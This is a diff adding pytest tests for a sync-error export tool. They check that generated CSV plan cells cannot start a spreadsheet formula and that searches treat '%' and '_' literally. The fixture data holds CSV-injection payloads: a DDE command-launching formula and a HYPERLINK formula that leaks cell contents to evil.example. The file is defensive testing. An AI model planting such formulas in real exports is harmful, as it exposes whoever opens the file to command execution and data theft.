@@ -1,0 +1,61 @@
+"""Hostile data in exports: formulas for the spreadsheet an admin opens the plan in, wildcards in searches."""
+
+from __future__ import annotations
+
+import csv
+from pathlib import Path
+
+import pytest
+
+from syncanalysis import Workspace
+from syncanalysis.actions import execute, plan
+from syncanalysis.actions.planfile import PlanFileBackend
+from syncanalysis.analysis.records import Selection, count_records
+from syncanalysis.sources import load_files
+
+FORMULAS = ['=cmd|\' /C calc\'!A0', '=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1)",
+            "\t=1", "\r=1"]
+
+
+def _page_5333(path: Path, descriptions: list[str]) -> Path:
+    """A page 5333 export (English captions) with one skipped customer line per description."""
+    with path.open("w", newline="", encoding="utf-8") as fh:
+        w = csv.writer(fh)
+        w.writerow(["Table ID", "Table Name", "Description", "Record Exists", "Coupled To", "Coupled Record Exists",
+                    "Error Message", "Failed On"])
+        for i, d in enumerate(descriptions):
+            w.writerow([18, "Customer", d, "Yes", f"Account {i}", "Yes", f"The field Name is too long ({d})",
+                        f"11/2{i % 9}/2026 8:00:00 AM"])
+    return path
+
+
+@pytest.fixture
+def hostile(tmp_path) -> Workspace:
+    ws = Workspace()
+    load_files(ws, [_page_5333(tmp_path / "Coupled Data Synchronization Errors.csv", FORMULAS + ["C10000", "50%_off"])],
+               environment="E", company="C", progress=False)
+    return ws
+
+
+def test_plan_csv_cells_never_start_a_formula(hostile, tmp_path):
+    p = plan(hostile, "retry", Selection(environment="E", company="C"))
+    p.backend_impl = PlanFileBackend(tmp_path / "plan.json")
+    execute(hostile, p, who="test")
+    with (tmp_path / "plan.csv").open(encoding="utf-8", newline="") as fh:
+        cells = [c for row in csv.reader(fh) for c in row]
+    assert cells and not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    # the text is all there, behind the quote Excel hides
+    for f in FORMULAS[:5]:
+        assert any(c == "'" + f for c in cells), f
+
+
+def test_search_is_literal_text_not_a_like_pattern(hostile):
+    assert count_records(hostile, Selection(search="_")) == 1  # only '50%_off' has an underscore
+    assert count_records(hostile, Selection(search="%")) == 1
+    assert count_records(hostile, Selection(search="50%_off")) == 1
+    assert count_records(hostile, Selection(search="C10000")) == 1
+
+
+def test_workspace_query_search_is_literal_too(hostile):
+    got = hostile.query("skipped_records", search="_", limit=None)
+    assert got["description"].tolist() == ["50%_off"]
